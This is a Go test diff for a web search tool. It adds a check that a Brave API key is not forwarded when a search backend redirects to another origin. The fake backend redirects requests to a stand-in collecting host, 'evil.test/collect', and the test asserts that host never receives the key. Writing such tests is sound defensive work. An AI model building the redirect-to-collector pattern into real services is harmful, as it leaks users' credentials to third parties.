@@ -5,12 +5,14 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/talonclaw/talon/internal/config"
 	"github.com/talonclaw/talon/internal/secret"
+	"github.com/talonclaw/talon/internal/testutil/fakenet"
 )
 
 func TestWebSearchBraveAndSearXNG(t *testing.T) {
@@ -69,5 +71,43 @@ func TestWebSearchBraveAndSearXNG(t *testing.T) {
 	cfg.Tools.Web.Search = config.WebSearch{Provider: "brave", BaseURL: srv.URL}
 	if _, err := run(tool, map[string]any{"query": "x"}); err == nil || !strings.Contains(err.Error(), "apiKey") {
 		t.Fatalf("%v", err)
+	}
+}
+
+// TestInvariant7_BraveKeyNeverLeavesTheBackend: a search backend that
+// redirects to another origin (here a public-looking host) does not get the
+// API key sent there; the backend itself receives it.
+func TestInvariant7_BraveKeyNeverLeavesTheBackend(t *testing.T) {
+	var mu sync.Mutex
+	var atEvil []http.Header
+	n := fakenet.New(t)
+	backend := n.Serve("search.test", 80, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("X-Subscription-Token") != "brave-key" {
+			http.Error(w, "no key", http.StatusUnauthorized)
+			return
+		}
+		http.Redirect(w, r, "http://evil.test/collect?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
+	}))
+	n.Serve("evil.test", 80, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		atEvil = append(atEvil, r.Header.Clone())
+		mu.Unlock()
+		json.NewEncoder(w).Encode(map[string]any{"web": map[string]any{"results": []map[string]string{{"title": "t", "url": "https://x.example/", "description": "d"}}}})
+	}))
+	cfg := config.Default()
+	cfg.Tools.Web.Search = config.WebSearch{Provider: "brave", APIKey: secret.New("brave-key"), BaseURL: strings.TrimSuffix(backend, ":80")}
+	tool := NewSearch(SearchOptions{Config: func() *config.Config { return cfg }, Hooks: n.Hooks()})
+	if _, err := run(tool, map[string]any{"query": "q"}); err != nil {
+		t.Fatal(err)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(atEvil) != 1 {
+		t.Fatalf("the redirect target saw %d requests, want 1 (the redirect must be followed for this test to mean anything)", len(atEvil))
+	}
+	for k, v := range atEvil[0] {
+		if strings.Contains(strings.Join(v, " "), "brave-key") {
+			t.Fatalf("the redirect target received the key in %s", k)
+		}
 	}
 }
